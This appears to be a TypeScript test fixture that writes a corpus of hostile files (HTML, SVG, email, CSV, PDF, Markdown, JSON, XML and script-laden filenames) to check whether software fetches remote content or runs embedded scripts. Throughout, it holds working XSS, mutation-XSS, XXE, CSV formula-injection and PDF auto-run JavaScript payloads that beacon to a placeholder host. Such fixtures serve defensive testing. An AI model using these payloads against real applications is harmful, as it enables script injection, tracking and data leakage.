/**
 * A leak made to reach out: every way a page, a picture, a mail or a document has of fetching something, moving the
 * reader elsewhere or running a script. All of it names hosts under `LEAK_HOST`.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { makePdf } from '../support/make-pdf.ts';

export const LEAK_HOST = 'reach-out.example';

const at = (what: string): string => `http://${what}.${LEAK_HOST}`;
/** Says that it ran in every way that can be seen from outside. */
const script = (what: string): string =>
  `window.leaked='${what}';document.title='${what}';alert('${what}');new Image().src='${at(`${what}-ran`)}/'`;
const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

const HTML = `<!doctype html><html><head><base href="${at('base')}/">
<meta http-equiv="refresh" content="0;url=${at('refresh')}/">
<link rel="stylesheet" href="${at('css')}/x.css"><link rel="prefetch" href="${at('prefetch')}/">
<link rel="dns-prefetch" href="//${LEAK_HOST}"><link rel="preconnect" href="${at('preconnect')}">
<link rel="modulepreload" href="${at('modulepreload')}/x.js"><link rel="icon" href="${at('icon')}/x.ico">
<style>@import url(${at('import')}/x.css);body{background:url('${at('cssurl')}/x.png')}
@font-face{font-family:x;src:url(${at('font')}/x.woff2)}</style>
<script>${script('inline')}</script><script src="${at('script')}/x.js"></script></head>
<body onload="${escaped(script('onload'))}" background="${at('background')}/x.png">
<p>邮箱 mailbox 198.51.100.23 of the hostile page</p>
<img src="${at('img')}/pixel.gif" srcset="${at('srcset')}/x.png 2x" onerror="${escaped(script('onerror'))}">
<picture><source srcset="${at('source')}/x.webp"></picture>
<video src="${at('video')}/x.mp4" poster="${at('poster')}/x.png" autoplay></video><audio src="${at('audio')}/x" autoplay></audio>
<iframe src="${at('iframe')}/"></iframe><iframe srcdoc="<script>${escaped(script('srcdoc'))}</script>"></iframe>
<iframe src="javascript:${escaped(script('jsframe'))}"></iframe><iframe src="data:text/html,<script>${escaped(script('dataframe'))}</script>"></iframe>
<object data="${at('object')}/x.swf"></object><embed src="${at('embed')}/x.pdf">
<form action="${at('form')}/" method="post"><input name="a" value="b" autofocus onfocus="${escaped(script('onfocus'))}"><button>Go</button></form>
<svg><image href="${at('svgimage')}/x.png"/><use href="${at('use')}/x.svg#a"/><script>${script('svgscript')}</script></svg>
<math><mtext><mglyph><style><img src=x onerror="${escaped(script('mutation'))}"></style></mglyph></mtext></math>
<a href="javascript:${escaped(script('jslink'))}" ping="${at('ping')}/">click</a>
<a href="data:text/html,<script>${escaped(script('datalink'))}</script>">data</a><details open ontoggle="${escaped(script('ontoggle'))}">x</details>
<table background="${at('tablebg')}/x.png"><tr><td style="background:url(${at('tdbg')}/x.png)">cell</td></tr></table>
</body></html>`;

const SVG = `<?xml version="1.0"?><?xml-stylesheet href="${at('xmlstyle')}/x.css"?>
<!DOCTYPE svg [<!ENTITY e SYSTEM "${at('entity')}/x">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30" onload="${escaped(script('svgonload'))}">
<script>${script('svgown')}</script><style>@import url(${at('svgcss')}/x.css);</style>
<image xlink:href="${at('svgxlink')}/x.png" width="9" height="9"/>
<foreignObject width="90" height="30"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${at('foreign')}/x.png"/></body></foreignObject>
<text x="5" y="20">mailbox 198.51.100.23</text></svg>`;

const CHAT = `<table style='width:100%;'><tr><th>Time</th><th>From</th><th>To</th><th>Message</th></tr>
<tr><td>2020-11-25 02:24:13</td><td><img src=x onerror="${escaped(script('sender'))}"></td><td>b</td><td>邮箱 <img src="${at('chatimg')}/x.png"><script>${script('chat')}</script></td></tr>
<tr><td>2020-11-25 02:25:13</td><td>a</td><td>b</td><td><a href="${at('chatlink')}/x.png"> <img src="${at('chatpicture')}/x.png"></a> [捂脸] javascript:${script('plain')}</td></tr></table>`;

const MARKDOWN = `# mailbox ![pixel](${at('mdimage')}/x.png)\n\n<img src="${at('mdhtml')}/x.png"><script>${script('markdown')}</script>\n\n[x](javascript:${script('mdlink')}) ![a][b]\n\n[b]: ${at('mdref')}/x.png\n\n198.51.100.23`;

const MAIL = [
  'From: "<img src=x onerror=alert(1)>" <a@reach-out.example>',
  'To: b@reach-out.example',
  `Subject: mailbox <script>${script('subject')}</script>`,
  'Date: Tue, 14 May 2019 10:22:00 +0800',
  `Disposition-Notification-To: <receipt@${LEAK_HOST}>`,
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="b"',
  '',
  '--b',
  'Content-Type: text/html; charset=utf-8',
  '',
  HTML,
  '--b',
  `Content-Type: message/external-body; access-type=URL; URL="${at('external')}/x"`,
  '',
  '--b',
  'Content-Type: text/html; name="attached.html"',
  'Content-Disposition: attachment; filename="attached.html"',
  '',
  HTML,
  '--b--',
  '',
].join('\r\n');

const CSV = `name,formula\n"=HYPERLINK(""${at('csv')}/"",""mailbox"")","@SUM(1)"\n"<img src=${at('csvimg')}/x.png>",198.51.100.23\n`;

/** A one-page PDF that runs a script, opens an address and sends a form when it is opened. */
function pdf(): Buffer {
  const text = 'BT /F1 12 Tf 20 100 Td (mailbox 198.51.100.23) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('pdf'\\); app.launchURL\\('${at('pdfjs')}/'\\)) >> /AA << /WC << /S /URI /URI (${at('pdfclose')}/) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] /AA << /O << /S /URI /URI (${at('pdfopen')}/) >> >> >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:${script('pdfuri').replaceAll(/[()]/g, '\\$&')}) >> >>`,
  ];
  return makePdf(objects);
}

const FILES: Readonly<Record<string, string | Buffer>> = {
  'page.html': HTML,
  'page.xhtml': `<?xml version="1.0"?>${HTML.replace('<!doctype html>', '')}`,
  'saved.mhtml': `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\nContent-Location: ${at('mhtml')}/\r\n\r\n${HTML}\r\n--m--\r\n`,
  'drawing.svg': SVG,
  'picture.png': SVG,
  'chat/1.md': CHAT,
  'notes.md': MARKDOWN,
  'letter.eml': MAIL,
  'table.csv': CSV,
  'paper.pdf': pdf(),
  'script.js': script('javascript-file'),
  'data.json': JSON.stringify({ url: `javascript:${script('json')}`, html: HTML, mailbox: '198.51.100.23' }),
  'feed.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${at('xsl')}/x.xsl"?><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${at('xinclude')}/"/>mailbox</a>`,
  '<img src=x onerror=alert(1)>.txt': `mailbox in a file with a hostile name. ${at('name')}/ 198.51.100.23`,
  '"><script>alert(1)<!--.txt': 'mailbox, and another name',
};

export async function writeHostileCorpus(folder: string): Promise<void> {
  for (const [name, content] of Object.entries(FILES)) {
    const file = join(folder, ...name.split('/'));
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, content);
  }
}
